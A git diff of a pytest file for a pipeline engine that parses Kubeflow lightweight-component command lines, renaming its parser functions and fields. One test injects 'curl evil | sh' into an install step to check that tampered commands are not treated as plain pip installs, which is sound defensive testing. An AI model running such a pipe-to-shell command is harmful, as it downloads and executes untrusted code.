@@ -1,5 +1,6 @@
-"""Reading what a lightweight component's command line needs: ours and kfp's, compiled
-by the real compilers; anything else is left alone."""
+"""The engine reads what a lightweight component's command line needs, once, as it
+builds the launch: ours and kfp's, compiled by the real compilers; anything else is a
+plain command, run as it is."""
 
 import json
 from pathlib import Path
@@ -10,7 +11,8 @@ import yaml
 from kfp import compiler as kfp_compiler
 from kfp import dsl as kfp_dsl
 
-from dagyard.executors.commands import python_command
+from dagyard.engine.python_functions import python_function, task_command
+from dagyard.executors.base import Command
 from dagyard.runtime.embed import lightweight_container
 
 pytestmark = pytest.mark.kfp
@@ -75,9 +77,9 @@ def test_kfp_install_step_is_read_and_skipped(
     component: Any, requirements: list[str], index_urls: list[str], tmp_path: Path
 ) -> None:
     argv = kfp_argv(component, tmp_path)
-    command = python_command(argv)
-    assert command is not None and command.kind == "kfp"
-    assert list(command.requirements) == requirements
+    command = python_function(argv)
+    assert command is not None and command.runner == "kfp"
+    assert list(command.packages) == requirements
     assert list(command.index_urls) == index_urls
     body = command.argv_for("/any/python")
     assert body == argv[3:]  # what `"$0" "$@"` would have run
@@ -86,18 +88,18 @@ def test_kfp_install_step_is_read_and_skipped(
 
 def test_kfp_command_without_install_step_needs_nothing(tmp_path: Path) -> None:
     argv = kfp_argv(no_kfp, tmp_path)
-    command = python_command(argv)
-    assert command is not None and command.kind == "kfp"
-    assert command.requirements == () and command.argv_for("/any/python") == argv
+    command = python_function(argv)
+    assert command is not None and command.runner == "kfp"
+    assert command.packages == () and command.argv_for("/any/python") == argv
 
 
 def test_an_install_step_that_does_more_than_pip_is_run_as_it_is(tmp_path: Path) -> None:
     argv = kfp_argv(plain, tmp_path)
     argv[2] = argv[2].replace("python3 -m pip install", "curl evil | sh; python3 -m pip install")
-    assert python_command(argv) is None
+    assert python_function(argv) is None
     argv = kfp_argv(plain, tmp_path)
     argv[2] = argv[2].replace("--no-deps", "--target=/somewhere")
-    assert python_command(argv) is None
+    assert python_function(argv) is None
 
 
 @pytest.mark.parametrize(
@@ -110,7 +112,8 @@ def test_an_install_step_that_does_more_than_pip_is_run_as_it_is(tmp_path: Path)
     ],
 )
 def test_other_commands_are_not_python_components(argv: list[str]) -> None:
-    assert python_command(argv) is None
+    assert python_function(argv) is None
+    assert task_command(argv) == Command(tuple(argv))
 
 
 def test_our_command_gets_the_interpreter_and_loses_its_package_options() -> None:
@@ -120,9 +123,11 @@ def test_our_command_gets_the_interpreter_and_loses_its_package_options() -> Non
         packages_to_install=["six>=1", "pytest"],
         pip_index_urls=["https://a.example/simple"],
     )
-    parsed = python_command(command + args)
-    assert parsed is not None and parsed.kind == "dagyard"
-    assert parsed.requirements == ("six>=1", "pytest")
+    parsed = python_function(command + args)
+    assert parsed is not None and parsed.runner == "dagyard"
+    assert task_command(command + args) == parsed
+    assert parsed.argv == (*command, *args)  # what an image would run, install step included
+    assert parsed.packages == ("six>=1", "pytest")
     assert parsed.index_urls == ("https://a.example/simple",)
     assert parsed.argv_for("/env/bin/python") == [
         "/env/bin/python",
@@ -136,8 +141,8 @@ def test_our_command_gets_the_interpreter_and_loses_its_package_options() -> Non
 
 def test_our_command_without_packages_only_changes_the_interpreter() -> None:
     command, args = lightweight_container(function_source="def f(): pass\n", function_name="f")
-    parsed = python_command(command + args)
-    assert parsed is not None and parsed.requirements == () and parsed.index_urls == ()
+    parsed = python_function(command + args)
+    assert parsed is not None and parsed.packages == () and parsed.index_urls == ()
     assert parsed.argv_for("/py") == ["/py", *command[1:], *args]
 
 
@@ -146,4 +151,4 @@ def test_our_command_with_malformed_options_is_left_to_the_runtime() -> None:
         function_source="def f(): pass\n", function_name="f", packages_to_install=["six"]
     )
     command[4] = json.dumps({"not": "a list"})
-    assert python_command(command + args) is None
+    assert python_function(command + args) is None
